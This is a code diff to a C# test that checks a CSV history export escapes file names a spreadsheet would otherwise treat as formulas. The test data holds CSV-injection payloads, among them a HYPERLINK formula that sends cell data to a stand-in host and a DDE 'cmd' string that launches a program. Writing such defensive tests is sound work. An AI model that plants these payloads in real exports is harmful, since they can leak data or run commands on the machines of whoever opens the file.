@@ -55,9 +55,13 @@ public sealed class HistoryExportTests
     [Fact]
     public async Task Cells_that_a_spreadsheet_would_take_for_formulas_are_made_safe()
     {
-        string[] hostile =
+        // What is uploaded, and what a spreadsheet gets instead.
+        (string Name, string Written)[] hostile =
         [
-            "=HYPERLINK(\"http://evil.example/\"&A1,\"click\").png", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "＝1+1", "＠x", "\t=1", "a\",=1+1", "=1;2,3", "it's-harmless.png",
+            ("=HYPERLINK(\"http://evil.example/\"&A1,\"click\").png", "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\").png"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("＝1+1", "'＝1+1"), ("＠x", "'＠x"), ("\t=1", "'\t'=1"), ("\tx", "'\tx"), ("a\",=1+1", "a\",'=1+1"), ("=1;2,3", "'=1;2,3"),
+            ("beat;=1+1", "beat;'=1+1"), ("beat; \"=1+1", "beat; \"'=1+1"), ("beat\t@SUM(1)", "beat\t'@SUM(1)"), ("beat|-1", "beat|'-1"), ("beat\r+1", "beat\r'+1"), ("beat;\u200B=1", "beat;\u200B'=1"),
+            ("it's-harmless.png", "it's-harmless.png"), ("lead II - 2+3=5; V1.png", "lead II - 2+3=5; V1.png"),
         ];
         await using var application = new Application { Classifier = Classifiers.Answering() };
         await ManyPredictions.FillAsync(application, hostile.Length);
@@ -65,7 +69,7 @@ public sealed class HistoryExportTests
         {
             for (var number = 1; number <= hostile.Length; number++)
             {
-                await db.Database.ExecuteSqlAsync($"UPDATE Predictions SET OriginalFileName = {hostile[number - 1]} WHERE Number = {number}", Cancellation);
+                await db.Database.ExecuteSqlAsync($"UPDATE Predictions SET OriginalFileName = {hostile[number - 1].Name} WHERE Number = {number}", Cancellation);
             }
         }
 
@@ -74,7 +78,7 @@ public sealed class HistoryExportTests
 
         Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
         var names = Csv(System.Text.Encoding.UTF8.GetString(bytes)).Select(row => row["file_name"]!).ToList();
-        Assert.Equal(hostile.Select(name => "=+-@＝＠\t".Contains(name[0], StringComparison.Ordinal) ? "'" + name : name), names);
+        Assert.Equal(hostile.Select(name => name.Written), names);
     }
 
     [Fact]
